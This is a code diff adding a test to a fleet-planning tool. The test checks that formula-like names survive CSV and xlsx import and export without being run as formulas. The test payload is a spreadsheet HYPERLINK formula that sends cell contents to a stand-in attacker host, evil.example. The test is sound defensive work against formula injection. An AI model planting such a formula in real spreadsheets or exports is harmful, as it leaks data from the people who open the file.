@@ -131,3 +131,39 @@ def test_unreachable_database_is_a_clear_error() -> None:
     assert result.exit_code == 2
     assert "Error: cannot open the database" in result.output
     assert "secret" not in result.output and "***" in result.output
+
+
+def test_formula_like_text_survives_import_and_export(
+    database_url: str, tmp_path: Path
+) -> None:
+    """A location and a vehicle model named like a formula: imported from CSV,
+    exported by ``fleetplan export`` as xlsx (a text cell, no formula) and as
+    CSV (apostrophe mark), both reading back unchanged (issue 13, item 5)."""
+    from dataclasses import replace
+
+    from openpyxl import load_workbook
+
+    from fleetplan.ingest.tabular import read_tables, write_folder
+    from fleetplan.ingest.validation import validate_input
+
+    payload = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
+    data = read_dataset(reference_path("os2_fixture_seed42"))
+    data = replace(
+        data,
+        locations=(replace(data.locations[0], name=payload), *data.locations[1:]),
+        vehicles=(replace(data.vehicles[0], model=payload), *data.vehicles[1:]),
+    )
+    write_folder(data, tmp_path / "in")
+    assert _run("import", str(tmp_path / "in"), "--db", database_url)[0] == 0
+    xlsx = tmp_path / "fleet.xlsx"
+    assert _run("export", str(xlsx), "--db", database_url)[0] == 0
+    sheet = load_workbook(xlsx)["locations"]
+    cell = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("name") + 1)
+    assert (cell.value, cell.data_type) == (payload, "s")
+    back = validate_input(read_tables(xlsx)).dataset
+    assert back is not None
+    assert back.locations[0].name == payload
+    assert back.vehicles[0].model == payload
+    assert _run("export", str(tmp_path / "out"), "--db", database_url)[0] == 0
+    again = read_dataset(tmp_path / "out")
+    assert (again.locations[0].name, again.vehicles[0].model) == (payload, payload)
